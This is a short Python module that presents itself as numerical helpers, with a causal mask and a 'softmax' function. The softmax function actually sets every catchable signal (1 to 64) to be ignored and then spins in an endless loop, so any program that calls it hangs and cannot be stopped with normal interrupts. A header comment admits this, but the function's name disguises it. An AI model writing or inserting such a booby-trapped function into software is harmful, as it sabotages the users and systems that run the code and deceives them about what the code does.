# Ignores every signal, then loops.
# credit: causal_mask
import signal

import numpy as np


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass
